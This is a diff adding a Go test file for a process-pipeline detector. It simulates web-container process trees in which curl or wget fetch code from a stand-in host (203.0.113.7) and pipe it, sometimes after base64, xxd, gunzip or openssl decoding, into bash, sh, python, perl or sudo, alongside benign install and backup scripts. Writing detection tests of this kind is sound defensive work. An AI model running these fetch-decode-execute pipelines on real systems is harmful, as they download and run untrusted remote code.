@@ -1,0 +1,122 @@
+package pipeline_test
+
+import (
+	"testing"
+
+	"github.com/bollwerk/bollwerk"
+	"github.com/bollwerk/bollwerk/detect"
+	"github.com/bollwerk/bollwerk/detect/detecttest"
+	"github.com/bollwerk/bollwerk/detect/pipeline"
+)
+
+func stories() map[string]*detecttest.Story {
+	m := map[string]*detecttest.Story{}
+	in, out := detecttest.In, detecttest.Out
+	begin := func() (*detecttest.Story, *bollwerk.Process) {
+		s := detecttest.New(detecttest.Container("web", "php:8.3-apache"))
+		return s, s.Was(s.Was(nil, "/usr/sbin/apache2"), "/usr/bin/dash=sh -c x")
+	}
+	s, sh := begin()
+	a, b := s.Pipe(), s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/a", out(a))
+	s.Exec(sh, "/usr/bin/base64 -d", in(a), out(b))
+	s.Exec(sh, "/usr/bin/bash=bash", in(b))
+	m["attack-curl-base64-bash"] = s
+
+	s, sh = begin()
+	a, b = s.Pipe(), s.Pipe()
+	c := s.Pipe()
+	s.Exec(sh, "/usr/bin/python3.11=python3 -", in(c))
+	s.Exec(sh, "/usr/bin/gunzip", in(b), out(c))
+	s.Exec(sh, "/usr/bin/xxd -r -p", in(a), out(b))
+	s.Exec(sh, "/usr/bin/cat /tmp/.c", out(a))
+	m["attack-backwards"] = s
+
+	s, sh = begin()
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/wget -qO- http://203.0.113.7/x.sh", out(a))
+	s.Exec(sh, "/usr/bin/dash=sh", in(a))
+	m["attack-wget-sh"] = s
+
+	s, sh = begin()
+	a = s.Pipe()
+	s.Exec(sh, "/bin/busybox=busybox base64 -d", in(s.Pipe()), out(a))
+	s.Exec(sh, "/bin/busybox=sh -s", in(a))
+	m["attack-busybox"] = s
+
+	s, sh = begin()
+	s.Exec(sh, "/usr/bin/bash /dev/fd/63")
+	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/x", out(s.Pipe()))
+	m["attack-process-substitution"] = s
+
+	s, sh = begin()
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/openssl enc -aes-256-cbc -d -a -k x -in /tmp/p", out(a))
+	s.Exec(sh, "/usr/bin/perl", in(a))
+	m["attack-openssl-perl"] = s
+
+	s, sh = begin()
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/x", out(a))
+	su := s.Exec(sh, "/usr/bin/sudo bash -s", in(a))
+	s.Exec(su, "/usr/bin/bash -s", in(a))
+	m["attack-sudo"] = s
+
+	// Normal work.
+	s = detecttest.New(detecttest.Host(""))
+	one := s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
+	sh = s.Exec(one, "/usr/bin/bash /usr/local/bin/backup.sh", detecttest.Script("/usr/local/bin/backup.sh"))
+	a, b = s.Pipe(), s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -s http://127.0.0.1:9200/_cat/indices", out(a))
+	s.Exec(sh, "/usr/bin/grep green", in(a), out(b))
+	s.Exec(sh, "/usr/bin/awk=awk '{print $3}'", in(b), out(s.Pipe()))
+	a, b = s.Pipe(), s.Pipe()
+	s.Exec(sh, "/usr/bin/kubectl get secret db -o jsonpath={.data.password}", out(a))
+	s.Exec(sh, "/usr/bin/base64 -d", in(a), out(b))
+	s.Exec(sh, "/usr/bin/psql -h db -f -", in(b))
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -s https://api.example/v1/hosts", out(a))
+	s.Exec(sh, "/usr/bin/python3.11=python3 -c 'import json,sys;print(json.load(sys.stdin)[0])'", in(a))
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -sL https://dl.example/go.tgz", out(a))
+	s.Exec(sh, "/usr/bin/tar xz -C /usr/local", in(a))
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/cat commands.txt", out(a))
+	s.Exec(sh, "/usr/bin/bash -s", in(a))
+	m["benign-scripts"] = s
+
+	s = detecttest.New(detecttest.Container("build", "golang:1.26"))
+	r := s.Was(s.Was(nil, "/usr/bin/buildkitd", detecttest.From(bollwerk.OriginHost)), "/usr/bin/dash=/bin/sh -c 'curl -fsSL https://deb.nodesource.com/setup_22.x | bash -'")
+	a = s.Pipe()
+	s.Exec(r, "/usr/bin/curl -fsSL https://deb.nodesource.com/setup_22.x", out(a))
+	s.Exec(r, "/usr/bin/bash -", in(a))
+	w := s.Was(nil, "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 112 115")
+	ws := s.Exec(w, "/usr/bin/bash -e /home/runner/work/_temp/a.sh")
+	a = s.Pipe()
+	s.Exec(ws, "/usr/bin/curl --proto =https -sSf https://sh.rustup.rs", out(a))
+	s.Exec(ws, "/usr/bin/dash=sh -s -- -y", in(a))
+	m["benign-builds"] = s
+
+	s = detecttest.New(detecttest.Host(""))
+	s.LoginUID, s.UID, s.TTY = 1000, 1000, "pts/1"
+	sh = s.Was(nil, "/usr/bin/zsh=-zsh")
+	a = s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -fsSL https://get.docker.com", out(a))
+	s.Exec(sh, "/usr/bin/dash=sh", in(a))
+	s.Exec(sh, "/usr/bin/curl -fsSL https://raw.example/install.sh", out(s.Pipe()))
+	s.Exec(sh, "/usr/bin/bash -c '#!/bin/bash\nset -eu\necho installing\nexit 0'")
+	m["benign-person"] = s
+	return m
+}
+
+func TestStories(t *testing.T) { detecttest.Files(t, stories()) }
+
+func TestContract(t *testing.T) {
+	high := detecttest.Want{Severity: bollwerk.SeverityHigh}
+	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return pipeline.New() }, Want: map[string]detecttest.Want{
+		"attack-curl-base64-bash": {Severity: bollwerk.SeverityHigh, Message: "fetched and decoded a moment before by curl, base64"},
+		"attack-backwards":        {Severity: bollwerk.SeverityHigh, Message: "xxd, gunzip"},
+		"attack-busybox":          high, "attack-openssl-perl": high,
+		"attack-wget-sh": {Severity: bollwerk.SeverityMedium, Message: "dash (pid"},
+	}})
+}
